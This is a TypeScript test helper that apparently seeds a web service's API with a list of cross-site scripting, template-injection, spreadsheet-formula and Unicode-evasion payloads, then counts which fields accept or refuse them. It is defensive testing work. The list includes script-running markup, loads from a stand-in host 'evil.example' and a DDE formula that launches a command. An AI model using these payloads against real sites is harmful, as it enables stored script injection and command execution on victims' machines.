import { OWN_PAGE } from '../api/browser-session';
import { uploadOf } from '../api/form';
import type { OperationId, TestService } from '../api/service';
import type { TestAccount } from '../api/world';

const RUN = 'document.title="ran"';

/**
 * What runs where a page takes a text for markup, an address, a template or a formula. Sources: OWASP, "XSS Filter Evasion" and "CSV
 * Injection"; Unicode Technical Report 36.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<script>${RUN}</script>`,
  `"><script>alert(1)</script>`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}`,
  `javascript:${RUN}//`,
  `[click](javascript:${RUN})`,
  `![x](x" onerror='${RUN}')`,
  `<iframe srcdoc="<script>parent.${RUN.replaceAll('"', '')}</script>">`,
  `<a href="data:text/html,<script>opener.${RUN.replaceAll('"', "'")}</script>">x</a>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}} <%= ${RUN} %> #{${RUN}}`,
  `<details open ontoggle=${RUN}>`,
  `<style>@import'//evil.example/x.css'</style>`,
  `<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example">`,
  `<form action="javascript:${RUN}"><button autofocus>x`,
  `=HYPERLINK("javascript:${RUN}","x")`,
  `=cmd|' /C calc'!A0`,
  `\u202Egnp.x=crs gmi<\u202C<img src=x onerror=${RUN}>`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `\u2028<svg/onload=${RUN}>\u2029`,
  `&lt;img src=x onerror=${RUN}&gt; \\u003cimg src=x onerror=${RUN}\\u003e`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
];

/** All of them, for fields that have room for them. */
const ALL = HOSTILE_TEXTS.join('\n');

/** How often each operation took such a text, and how often it refused one. */
export type Taken = Partial<Record<OperationId, { taken: number; refused: number }>>;

/** Puts them into everything that an account holder and an operator write and a view shows, by the API. */
export async function writeHostileTexts(
  service: TestService,
  holder: TestAccount,
  admin: TestAccount,
): Promise<Taken> {
  const taken: Taken = {};
  /** Refusals are counted; nothing else may go wrong. */
  async function write(id: OperationId, request: Parameters<TestService['call']>[1]): Promise<unknown> {
    const { status, body, text } = await service.call(id, request);
    const counts = (taken[id] ??= { taken: 0, refused: 0 });
    const isTaken = status < 300;
    counts[isTaken ? 'taken' : 'refused'] += 1;
    if (!isTaken && ![400, 401, 403, 409, 422].includes(status)) {
      throw new Error(`${id} answered ${status}: ${text}`);
    }
    return body;
  }
  const { token, key } = holder;
  const user = { params: { user_id: holder.id }, credential: admin.token };
  for (const [index, hostile] of HOSTILE_TEXTS.entries()) {
    const own = { credential: token };
    const byKey = { credential: key };
    await write('createKey', { ...own, body: { name: hostile.slice(0, 100) } });
    await write('createWebhook', { ...own, body: { url: hostile, events: ['*'] } });
    await write('register', {
      body: { email: `a${index}@example.com`, password: 'a long password', username: hostile.slice(0, 32) },
      ip: `10.9.9.${index}`,
    });
    await write('uploadDocument', {
      ...own,
      ...uploadOf(`${ALL} ${index}`, `${hostile.replaceAll('/', '')}.txt`),
    });
    await write('createAgent', { ...byKey, body: { name: hostile, system_prompt: ALL } });
    await write('createMemory', { ...byKey, body: { key: hostile, value: ALL } });
    const indexed = {
      content: `${ALL} ${index}`,
      collection: hostile.slice(0, 100),
      metadata: { title: hostile },
    };
    await write('indexRagDocument', { ...byKey, body: indexed });
    const chat = { model: hostile.slice(0, 100), messages: [{ role: 'user' as const, content: ALL }] };
    await write('createChatCompletion', {
      ...byKey,
      body: chat,
      headers: { 'x-request-id': `try-${index}` },
    });
    await write('submitTask', { ...byKey, body: { task_type: 'createChatCompletion', parameters: chat } });
    const credit = { user_id: holder.id, amount_usd: 0.01, reason: hostile };
    await write('addCredits', { credential: admin.token, body: credit });
    await write('updateUser', { ...user, body: { tier: 'enterprise', reason: hostile } });
    await write('startSession', {
      body: { email: holder.email, password: holder.password },
      headers: {
        ...OWN_PAGE,
        'user-agent': encodeURI(hostile).replaceAll('%20', ' ').replaceAll('%3C', '<'),
      },
      ip: `10.9.8.${index}`,
    });
  }
  const description = ALL.slice(0, 500);
  const webhook = { url: 'https://hooks.example.com/x?<script>', description, events: ['*' as const] };
  await write('createWebhook', { credential: token, body: webhook });
  const upgrade = { requested_tier: 'pro' as const, reason: ALL };
  await write('createUpgradeRequest', { credential: token, body: upgrade });
  return taken;
}
